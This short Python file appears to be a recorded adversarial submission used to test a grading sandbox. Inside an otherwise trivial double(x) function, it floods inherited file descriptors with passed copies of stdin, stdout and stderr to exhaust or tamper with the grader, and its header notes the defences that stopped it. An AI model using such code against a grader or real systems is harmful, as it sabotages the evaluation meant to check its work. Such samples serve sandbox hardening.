# attack: sends its descriptors to the grader, to fill its table or to be read from
# stopped by: seccomp sends none; what arrives with a plain read is closed by the kernel
# verdict: failed,violation
# exercise: 01_double
import os
import socket


def double(x):
    for number in range(3, 20):
        try:
            with socket.socket(fileno=os.dup(number)) as connection:
                for _ in range(9):
                    socket.send_fds(connection, [b"x"], [0, 1, 2] * 80)
        except OSError:
            pass
    return x
